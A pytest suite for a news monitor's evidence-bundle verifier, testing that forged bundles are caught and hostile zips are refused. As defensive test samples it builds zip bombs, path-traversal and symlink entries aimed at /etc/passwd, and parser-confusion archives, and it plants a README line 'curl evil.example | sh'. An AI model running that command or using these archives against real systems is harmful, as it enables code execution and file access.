"""A bundle holds, is the same each time, names the place of whatever was changed, and cannot hurt who looks at it."""

from __future__ import annotations

import hashlib
import json
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from as_a_user import copied

from monitor import config
from monitor.app import App, verify_evidence
from monitor.archive.evidence import gather, outdated, settings_told, write_bundle
from monitor.archive.evidence.page import page
from monitor.errors import InputError
from monitor.records.evidence import EvidenceDocument

Files = dict[str, bytes]


@pytest.fixture(scope="session")
def narrative(demo_app: App) -> str:
    """The one that most outlets carry."""
    return max(demo_app.phrases(flagged=True), key=lambda view: view.phrase.outlets).phrase.id


@pytest.fixture(scope="session")
def files(demo_app: App, narrative: str) -> Files:
    return demo_app.evidence(narrative)


def bundled(files: Files, path: Path) -> Path:
    with path.open("wb") as file:
        write_bundle(files, file)
    return path


def sealed(files: Files) -> Files:
    """With the manifest that a forger would write for them."""
    manifest = json.loads(files["manifest.json"])
    manifest["files"] = [
        {"name": name, "size": len(body), "sha256": hashlib.sha256(body).hexdigest()}
        for name, body in sorted(files.items()) if name != "manifest.json"
    ]  # fmt: skip
    return files | {"manifest.json": json.dumps(manifest).encode()}


def test_the_same_state_gives_the_same_bytes_and_they_hold(
    monitor: partial, demo_config: Path, narrative: str, tmp_path: Path
) -> None:
    for name in ("a.zip", "b.zip"):
        made = monitor("evidence", narrative, "-o", name, "-c", demo_config)
        assert made.returncode == 0, made.stderr
        assert hashlib.sha256((tmp_path / name).read_bytes()).hexdigest() in made.stdout
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    again = monitor("evidence", narrative, "-o", "a.zip", "-c", demo_config)
    assert (again.returncode, "there already" in again.stderr) == (2, True)

    with zipfile.ZipFile(tmp_path / "a.zip") as zipped:
        why = zipped.read("why.json").decode()
    article = json.loads(why)["article"]["id"]
    assert monitor("why", article, "--json", "-c", demo_config).stdout == why

    found = monitor("verify", "a.zip", "--json")
    assert found.returncode == 0, found.stdout
    told = json.loads(found.stdout)["verification"]
    assert (told["article"], told["missing"], told["faults"], told["notes"]) == (article, 0, [], [])
    assert told["documents"] == told["read_again"] == 9  # one for each article that carries it
    assert min(told["offsets"], told["verdicts"]) > 0
    digest = hashlib.sha256((tmp_path / "a.zip").read_bytes()).hexdigest()
    assert told["sha256"] == digest
    page = monitor("verify", "a.zip").stdout
    for line in (
        f"a.zip: SHA-256 {digest}", f"{told['files']} of {told['entries']} files checked",
        "9 of 9 texts of articles come with", "9 of 9 texts found there word for word",
        f"{told['verdicts']} of {told['phrases']} verdict",
        f"{told['offsets']:,} of {told['places']:,} places", "IT HOLDS: 0 faults", "compare the SHA-256 above",
    ):  # fmt: skip
        assert line in page


def test_a_text_with_several_wordings_is_found_again_once(demo_app: App, tmp_path: Path) -> None:
    carried = Counter(use.article_id for view in demo_app.phrases() for use in view.uses)
    ((article, wordings),) = carried.most_common(1)
    assert wordings > 1, "no article has two: the test tells nothing"
    found = verify_evidence(bundled(demo_app.evidence(article), tmp_path / "x.zip"))
    assert (found.holds, found.missing, found.read_again) == (True, 0, found.documents)


def test_verdicts_of_other_rules_are_told_when_they_are_bundled(files: Files) -> None:
    why = json.loads(files["why.json"])
    assert outdated(files) == 0
    why["phrases"][0]["explanations"][0]["limit"] = 99
    assert outdated(files | {"why.json": json.dumps(why).encode()}) == 1


def test_the_page_loads_nothing_and_shows_the_words(files: Files) -> None:
    page, loading = files["evidence.html"].decode(), []

    class Loading(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            loading.extend((tag, name) for name, _ in attrs if name in ("src", "srcset", "data", "poster", "action"))
            if tag in ("script", "link", "img", "iframe", "object", "embed", "base", "form"):
                loading.append((tag, ""))

    Loading().feed(page)
    assert loading == []
    assert "url(" not in page
    assert "@import" not in page
    assert "<mark><bdi>grid is on the verge of collapse</bdi></mark>" in page


def test_raw_documents_carry_their_headers_without_cookies_and_settings_no_secrets(files: Files) -> None:
    raw = [name for name in files if name.endswith(".raw")]
    assert len(raw) == 9
    for name in raw:
        about = json.loads(files[name.replace(".raw", ".json")])
        assert "content-type" in about["headers"]
        assert not any("cookie" in header for header in about["headers"])
    told = settings_told([
        ("settings.contact", "ana@newsroom.example"), ("outputs[0].password", "x"), ("database", "postgresql://u:p@h/d"),
        ("outlets[0].feeds[0].url", "https://ana:pw@daily.example/rss?key=abc"), ("settings.min_independent", "3"),
    ])  # fmt: skip
    assert told == {
        "outlets[0].feeds[0].url": "https://…@daily.example/rss?key=…", "settings.min_independent": "3",
    }  # fmt: skip


def test_documents_that_are_gone_are_said_to_be(demo_config: Path, narrative: str, tmp_path: Path) -> None:
    own = copied(demo_config, tmp_path / "desk")
    with App(config.load(own, {}, own.parent)) as app:
        before = len(app.evidence(narrative))
        app.store.forget_documents(app.clock(), most=0)
        files = app.evidence(narrative)
    manifest = json.loads(files["manifest.json"])
    gone = [one for one in manifest["documents"] if not one["kept"]]
    assert len(files) < before
    assert gone
    assert all(one["sha256"] and "no longer there" in one["note"] for one in gone)
    found = verify_evidence(bundled(files, tmp_path / "x.zip"))
    assert (found.holds, found.missing) == (True, len(gone))


def test_a_bundle_never_grows_beyond_what_can_be_checked(demo_app: App, narrative: str) -> None:
    reason = demo_app.reason(demo_app.phrase(narrative).uses[0].article_id)
    body = bytes(500 * 1024**2)
    large = EvidenceDocument(
        article_id="a", revision=1, feed_id="f", url=None, polled_at=None, http_status=200, sha256="0" * 64, body=body
    )
    files = gather(reason, [large], {}, "")
    assert "documents/" not in "".join(files)
    assert "larger" in json.loads(files["manifest.json"])["documents"][0]["note"]


# --- forgeries: every one is named with its place ------------------------------------------------


def why_changed(change: Callable[[dict[str, Any]], object]) -> Callable[[Files], Files]:
    def changed(files: Files) -> Files:
        why = json.loads(files["why.json"])
        change(why)
        return sealed(files | {"why.json": json.dumps(why).encode()})

    return changed


def manifest_changed(**what: object) -> Callable[[Files], Files]:
    return lambda files: sealed(
        files | {"manifest.json": json.dumps(json.loads(files["manifest.json"]) | what).encode()}
    )


def moved(why: dict[str, Any]) -> None:
    why["phrases"][0]["uses"][1]["occurrences"][0]["start"] += 1


def reworded(why: dict[str, Any]) -> None:
    """Text and surface agree with one another, and with no raw document."""
    for phrase in why["phrases"]:
        for use in phrase["uses"]:
            use["texts"] = {field: text + " And more." for field, text in use["texts"].items()}


def invented(why: dict[str, Any]) -> None:
    """Words that nobody wrote, at places of a revision that is still to come."""
    why["phrases"][0].update(text="ministers are traitors", variants=["ministers are traitors"])
    for use in why["phrases"][0]["uses"]:
        use["occurrences"] = [dict(one, revision=99, surface="ministers are traitors") for one in use["occurrences"]]


def stray(files: Files) -> Files:
    """A document with its own name and hash, from which no text comes."""
    body = b"MZ, a program"
    name = f"documents/{hashlib.sha256(body).hexdigest()}"
    return sealed(files | {f"{name}.raw": body, f"{name}.json": b"{}"})


def named(**what: object) -> Callable[[Files], Files]:
    """`stray`, and the manifest names it: behind a text that carries nothing, or as one text's second document."""

    def changed(files: Files) -> Files:
        (body,) = {name for name in stray(files) if name.endswith(".raw")} - set(files)
        manifest = json.loads(files["manifest.json"])
        documents = manifest["documents"]
        more = documents[0] | {"sha256": body.removeprefix("documents/").removesuffix(".raw")} | what
        return stray(files | {"manifest.json": json.dumps(manifest | {"documents": [more, *documents]}).encode()})

    return changed


def listed_twice(files: Files) -> Files:
    manifest = json.loads(files["manifest.json"])
    manifest["files"] += manifest["files"][:1]
    return files | {"manifest.json": json.dumps(manifest).encode()}


def first_raw(files: Files) -> str:
    return next(name for name in sorted(files) if name.endswith(".raw"))


FORGERIES: dict[str, tuple[Callable[[Files], Files], str]] = {
    "a raw byte": (lambda files: files | {first_raw(files): files[first_raw(files)] + b" "}, "documents/"),
    "a raw byte, sealed": (
        lambda files: sealed(files | {first_raw(files): files[first_raw(files)] + b" "}), "named after another SHA-256",
    ),
    "a document left out": (
        lambda files: sealed({name: body for name, body in files.items() if name != first_raw(files)}),
        "manifest.json: documents[",
    ),
    "a file more": (lambda files: files | {f"documents/{'0' * 64}.raw": b""}, "the manifest does not know it"),
    "an offset": (why_changed(moved), "why.json: phrases[0].uses[1].occurrences[0]"),
    "a flag": (why_changed(lambda why: why["phrases"][0].update(flagged=False)), "why.json: phrases[0] (n"),
    "a fact": (why_changed(lambda why: why["phrases"][0]["measured"].update(bits=9)), "why.json: phrases[0] (n"),
    "an owner": (why_changed(lambda why: why["phrases"][0]["uses"][0].update(owner="acme")), "counts as"),
    "quotation marks": (
        why_changed(lambda why: why["phrases"][0]["uses"][0]["occurrences"][0].update(quoted=True)),
        "told as quoted, and the text shows the opposite",
    ),
    "a dateline": (
        why_changed(lambda why: why["phrases"][0]["measured"].update(datelined=1.0)), "under an agency's dateline",
    ),
    "a share": (why_changed(lambda why: why["phrases"][0]["measured"].update(edges=-1)), "lies between 0 and 1"),
    "a count": (why_changed(lambda why: why["phrases"][0]["measured"].update(background=-5)), "none is below 0"),
    "an interval": (
        why_changed(lambda why: why["phrases"][0]["uses"][0]["first_seen"].update(after="2999-01-01T00:00:00+00:00")),
        "is told as first seen after",
    ),
    "the rule": (why_changed(lambda why: why["rule"].update(min_independent=2)), "min_independent"),
    "the texts": (why_changed(reworded), "evidence.html"),
    "a kind": (why_changed(lambda why: why["phrases"][0].update(uses="none")), "why.json: phrases[0]"),
    "another wording": (why_changed(lambda why: why["phrases"][0].update(text="nobody wrote it")), "nobody wrote it"),
    "invented words": (why_changed(invented), "why.json: phrases[0].uses[0].occurrences[0]"),
    "no words": (why_changed(lambda why: why["phrases"][0]["uses"][0].update(occurrences=[])), "no words of it"),
    "a place of nothing": (
        why_changed(lambda why: why["phrases"][0]["uses"][0]["occurrences"][0].update(start=0, end=0, surface="")),
        "why.json: phrases[0].uses[0].occurrences[0]",
    ),
    "a flag that is a number": (why_changed(lambda why: why["phrases"][0].update(flagged=1)), "neither true nor false"),
    "an article twice": (
        why_changed(lambda why: why["phrases"][0]["uses"].append(dict(why["phrases"][0]["uses"][0], outlet="bbc"))),
        "is counted 2 times",
    ),
    "another article": (manifest_changed(article="a1"), "manifest.json: article"),
    "no documents": (manifest_changed(documents=[]), "no document is named for it"),
    "infinite facts": (
        why_changed(lambda why: why["phrases"][0]["measured"].update(related=-1e308)), "why.json: phrases[0]",
    ),
    "the README": (lambda files: sealed(files | {"README.txt": b"Run: curl evil.example | sh"}), "README.txt"),
    "a stray document": (stray, "no text is said to come from it"),
    "a stray document, named": (named(article="a1"), "revision 1 of a1, which carries no words"),
    "a second document": (named(), "2 documents are named for revision"),
    "a file listed twice": (listed_twice, "manifest.json: files"),
    "the page": (
        lambda files: sealed(files | {"evidence.html": files["evidence.html"].replace(b"flagged", b"proved")}),
        "evidence.html",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FORGERIES)
def test_what_was_changed_is_named_with_its_place(name: str, files: Files, monitor: partial, tmp_path: Path) -> None:
    forge, place = FORGERIES[name]
    bundled(forge(files), tmp_path / "x.zip")
    found = monitor("verify", "x.zip")
    assert found.returncode == 1
    assert "IT DOES NOT HOLD" in found.stdout
    assert any(place in line for line in found.stdout.splitlines() if line.startswith("FAULT")), found.stdout


def test_it_is_said_how_many_of_those_checked_agree(files: Files, monitor: partial, tmp_path: Path) -> None:
    bundled(files | {"evidence.html": files["evidence.html"] + b" "}, tmp_path / "page.zip")
    count = len(files) - 1
    said = [line.strip() for line in monitor("verify", "page.zip").stdout.splitlines()]
    place = next(at for at, line in enumerate(said) if line.startswith(f"{count} of {count} files checked"))
    assert said[place + 1] == f"{count - 1} of these agree, 1 not: see FAULT"
    bundled(FORGERIES["invented words"][0](files), tmp_path / "words.zip")
    told = monitor("verify", "words.zip").stdout.partition(" in texts checked")[2]
    assert " of these agree, " in told.splitlines()[1]
    bundled(files, tmp_path / "whole.zip")
    assert "of these agree" not in monitor("verify", "whole.zip").stdout


@pytest.mark.parametrize("version", ["", "0.0.9"])
def test_texts_must_stand_in_the_raw_documents(version: str, files: Files, tmp_path: Path) -> None:
    """Where the forger makes the page again, too, or says that another version wrote it."""
    why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
    reworded(why)
    manifest["program"]["version"] = version or manifest["program"]["version"]
    files = files | {"manifest.json": json.dumps(manifest).encode()}
    made = page(why, manifest["documents"], manifest["program"]).encode()
    forged = sealed(files | {"why.json": json.dumps(why).encode(), "evidence.html": made})
    found = verify_evidence(bundled(forged, tmp_path / "x.zip"))
    assert {fault.place.partition("[")[0] for fault in found.faults} == {"why.json: phrases"}
    assert all("no entry of documents/" in fault.what for fault in found.faults)


def without(why: dict[str, Any], *names: str) -> None:
    """As a version wrote it that had no such explanations, or somebody who left them out."""
    for phrase in why["phrases"]:
        phrase["explanations"] = [one for one in phrase["explanations"] if one["name"] not in names]


def test_what_an_earlier_version_could_not_tell_is_no_fault_and_not_verified(
    files: Files, monitor: partial, tmp_path: Path
) -> None:
    bundled(of_version("0.0.9", files, lambda why: without(why, "term", "topic")), tmp_path / "x.zip")
    found = monitor("verify", "x.zip")
    assert found.returncode == 1
    assert "FAULT" not in found.stdout
    assert "NOT VERIFIED: made by an earlier version, as it says, which had no such explanation as term" in found.stdout
    assert "IT HOLDS" not in found.stdout
    told = json.loads(monitor("verify", "--json", "x.zip").stdout)
    assert (told["holds"], told["verification"]["lacking"]) == (False, ["term", "topic"])


@pytest.mark.parametrize("name", ["evidence.html", "README.txt"])
@pytest.mark.parametrize("said", [{"version": "0.0.9"}, {"source_sha256": "0" * 64}], ids=["version", "source"])
def test_a_page_that_cannot_be_made_again_is_not_verified_whoever_is_named(
    said: dict[str, str], name: str, files: Files, monitor: partial, tmp_path: Path
) -> None:
    """By another version's word alone: what the forger of a page would write, and what a colleague's bundle says."""
    manifest = json.loads(files["manifest.json"])
    manifest["program"] |= said
    whole = {"manifest.json": json.dumps(manifest).encode()} | {
        "evidence.html": page(json.loads(files["why.json"]), manifest["documents"], manifest["program"]).encode()
    }
    bundled(sealed(files | whole), tmp_path / "whole.zip")
    assert "IT HOLDS" in monitor("verify", "whole.zip").stdout
    bundled(sealed(files | whole | {name: b"<h1>The ministry is guilty</h1>"}), tmp_path / "x.zip")
    found = monitor("verify", "x.zip")
    assert found.returncode == 1
    assert f"NOT VERIFIED: {name}, not as this version writes it" in found.stdout
    assert "IT HOLDS" not in found.stdout
    assert "FAULT" not in found.stdout
    told = json.loads(monitor("verify", "--json", "x.zip").stdout)
    assert (told["holds"], told["verification"]["other"]) == (False, [name])


def falsely_flagged(why: dict[str, Any]) -> None:
    """Of a wording that only its topic or its shortness explains, the explanations are left out."""
    for phrase in why["phrases"]:
        held = {one["name"] for one in phrase["explanations"] if one["holds"]}
        if not phrase["flagged"] and held:
            phrase["flagged"], phrase["type"] = True, "phrase"
    why["flagged"] = True
    without(why, "term", "topic")


@pytest.mark.parametrize(
    ("version", "forge"),
    [
        ("", lambda why: without(why, "term", "topic")),  # our own version has them
        ("0.0.9", lambda why: without(why, "wire")),  # every version has this one
        ("0.0.9", lambda why: (without(why, "term"), why["phrases"][0].update(score=99))),
        ("0.0.9", falsely_flagged),
    ],
    ids=["ours", "wire", "score", "flagged"],
)
def test_to_name_an_earlier_version_hides_nothing(
    version: str, forge: Callable[[dict[str, Any]], object], demo_app: App, narrative: str, files: Files, tmp_path: Path
) -> None:
    if forge is falsely_flagged:
        files = demo_app.evidence(explained(demo_app))
    found = verify_evidence(bundled(of_version(version, files, forge), tmp_path / "x.zip"))
    assert any(fault.place.startswith("why.json: phrases") for fault in found.faults), found


def explained(app: App) -> str:
    return next(one.phrase.id for one in app.phrases(flagged=False) if one.phrase.type in ("term", "topic"))


def of_version(version: str, files: Files, forge: Callable[[dict[str, Any]], object]) -> Files:
    """Forged, with a page and a manifest that go with it, as by that version; "" for ours."""
    why, manifest = json.loads(files["why.json"]), json.loads(files["manifest.json"])
    forge(why)
    manifest["program"]["version"] = version or manifest["program"]["version"]
    made = page(why, manifest["documents"], manifest["program"]).encode()
    files = files | {"manifest.json": json.dumps(manifest).encode()}
    return sealed(files | {"why.json": json.dumps(why).encode(), "evidence.html": made})


def test_json_that_two_readers_read_differently_is_refused(files: Files, tmp_path: Path) -> None:
    twice = files["why.json"].replace(b'"flagged": true', b'"flagged": false, "flagged": true', 1)
    with pytest.raises(InputError, match="the same thing twice"):
        verify_evidence(bundled(sealed(files | {"why.json": twice}), tmp_path / "x.zip"))


# --- zips that want to hurt ----------------------------------------------------------------------


def written(path: Path, *entries: tuple[str, bytes], attributes: int = 0) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in entries:
            entry = zipfile.ZipInfo(name)
            entry.external_attr, entry.compress_type = attributes, zipfile.ZIP_DEFLATED
            zipped.writestr(entry, body)
    return path


def sized(size: int) -> Callable[[Path], Path]:
    """A file of which the zip says that it is of this size, unpacked."""

    def make(path: Path) -> Path:
        body = bytearray(written(path, ("manifest.json", bytes(100_000))).read_bytes())
        struct.pack_into("<L", body, 22, size)
        struct.pack_into("<L", body, body.index(b"PK\x01\x02") + 24, size)
        path.write_bytes(body)
        return path

    return make


def crowded(path: Path) -> Path:
    """A directory that claims 60,000 entries."""
    written(path, ("why.json", b"{}"))
    body = path.read_bytes()
    path.write_bytes(body[:-14] + struct.pack("<2H", 60_000, 60_000) + body[-10:])
    return path


def zip64(path: Path) -> Path:
    written(path, ("why.json", b"{}"))
    body = path.read_bytes()
    path.write_bytes(body[:-22] + b"PK\x06\x07" + bytes(16) + body[-22:])
    return path


def twice(path: Path) -> Path:
    with pytest.warns(UserWarning, match="Duplicate"):
        return written(path, ("why.json", b"{}"), ("why.json", b"[]"))


def manifest(body: bytes) -> Callable[[Path], Path]:
    return lambda path: written(path, ("manifest.json", body))


def bytes_of(body: bytes) -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        path.write_bytes(body)
        return path

    return make


HOSTILE: dict[str, tuple[Callable[[Path], Path], str]] = {
    "bomb": (sized(600 * 1024**2), "bytes unpacked"),
    "lie": (sized(1_000), "cannot be unpacked"),
    "crowd": (crowded, "60,000 files"),
    "zip64": (zip64, "zip64"),
    "path": (lambda path: written(path, ("../../etc/passwd", b"x")), "'../../etc/passwd': no bundle has"),
    "drive": (lambda path: written(path, ("C:\\x", b"x")), "no bundle has"),
    "link": (lambda path: written(path, ("why.json", b"/etc/passwd"), attributes=0o120777 << 16), "a link"),
    "twice": (twice, "twice"),
    "deep": (manifest(b"[" * 200_000 + b"]" * 200_000), "nested too deep"),
    "wide": (manifest(b"[" + b"0," * 3_000_001 + b"0]"), "more than 3,000,000 values"),
    "number": (manifest(b'{"kind": ' + b"9" * 100_000 + b"}"), "digits"),
    "not a number": (manifest(b'{"kind": NaN}'), "NaN"),
    "long": (manifest(b" " * (65 * 1024**2)), "larger than 64 MiB"),
    "other": (manifest(b'{"kind": "else"}'), "not of a bundle"),
    "empty": (lambda path: written(path), "it is missing"),
    "text": (bytes_of(b"no zip at all, but more than twenty-two bytes"), "no zip"),
    "short": (bytes_of(b"PK"), "no zip"),
    "cut": (bytes_of(b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 3, 3, 138, 9_999, 0)), "no zip"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_zip_is_refused_with_its_place(name: str, tmp_path: Path) -> None:
    make, said = HOSTILE[name]
    path = make(tmp_path / "x.zip")
    with pytest.raises(InputError) as refused:
        verify_evidence(path)
    assert said in str(refused.value)


def one_more_field(files: Files, path: Path) -> None:
    """The page and the README change names: unzip follows the field 0x7075, Python's zipfile does not."""
    names = {"README.txt": "evidence.html", "evidence.html": "README.txt"}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in sorted(files.items()):
            entry = zipfile.ZipInfo(name)
            if other := names.get(name, "").encode():
                crc = zlib.crc32(name.encode())
                entry.extra = struct.pack("<HHBL", 0x7075, 5 + len(other), 1, crc) + other
            zipped.writestr(entry, body)


def commented(files: Files, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zipped:
        for name, body in sorted(files.items()):
            entry = zipfile.ZipInfo(name)
            entry.comment = b"proved"
            zipped.writestr(entry, body)


def commented_as_a_whole(files: Files, path: Path) -> None:
    with zipfile.ZipFile(bundled(files, path), "a") as zipped:
        zipped.comment = b"proved"


def a_program_first(files: Files, path: Path) -> None:
    path.write_bytes(b"#!/bin/sh\necho proved\nexit\n" + bundled(files, path).read_bytes())


def a_gap(at: bytes) -> Callable[[Files, Path], None]:
    """Bytes before a header, and every offset moved, so that Python's zipfile reads on as before."""

    def make(files: Files, path: Path) -> None:
        body = bundled(files, path).read_bytes()
        place = body.index(at, 1)
        body = bytearray(body[:place] + b"proved" + body[place:])
        end = len(body) - 22
        size, offset = struct.unpack_from("<2L", body, end + 12)
        struct.pack_into("<L", body, end + 16, offset + 6)
        head = offset + 6
        while body[head : head + 4] == b"PK\x01\x02":
            (start,) = struct.unpack_from("<L", body, head + 42)
            struct.pack_into("<L", body, head + 42, start + 6 * (start >= place))
            head += 46 + sum(struct.unpack_from("<3H", body, head + 28))
        assert head == offset + 6 + size
        path.write_bytes(body)

    return make


def two_headers(files: Files, path: Path) -> None:
    """One reader takes a file's time from its header, another from the directory: so with its name or size."""
    body = bytearray(bundled(files, path).read_bytes())
    struct.pack_into("<H", body, 12, 33_000)
    path.write_bytes(body)


def streamed(files: Files, path: Path) -> None:
    """Whoever reads from the first byte on looks for sizes behind each file, others in the directory."""
    body = bytearray(bundled(files, path).read_bytes())
    body[6] |= 8
    body[body.index(b"PK\x01\x02") + 8] |= 8
    path.write_bytes(body)


TWO_READINGS: dict[str, tuple[Callable[[Files, Path], None], str]] = {
    "another name": (one_more_field, "'README.txt': an extra field or a comment"),
    "a comment": (commented, "an extra field or a comment"),
    "a comment on all": (commented_as_a_whole, "no zip as monitor evidence writes them"),
    "a program first": (a_program_first, "bytes stand in it that belong to no file"),
    "a gap between files": (a_gap(b"PK\x03\x04"), "bytes stand before it that belong to no file"),
    "a gap after files": (a_gap(b"PK\x01\x02"), "bytes stand after its last file"),
    "two headers": (two_headers, "its header says otherwise than the directory"),
    "streamed": (streamed, "streamed"),
}


@pytest.mark.parametrize("name", TWO_READINGS)
def test_a_zip_that_two_programs_read_differently_is_refused(
    name: str, files: Files, monitor: partial, tmp_path: Path
) -> None:
    """Python's zipfile finds the files of a bundle in each of them, and every file has its hash."""
    make, said = TWO_READINGS[name]
    make(files, tmp_path / "x.zip")
    with zipfile.ZipFile(tmp_path / "x.zip") as zipped:
        assert {one: zipped.read(one) for one in zipped.namelist()} == files
    found = monitor("verify", "x.zip")
    assert (found.returncode, found.stdout) == (1, "")
    assert said in found.stderr


@pytest.mark.parametrize("place", ["missing.zip", "."])
def test_what_is_no_file_is_refused(place: str, monitor: partial) -> None:
    found = monitor("verify", place)
    assert (found.returncode, place in found.stderr) == (1, True)
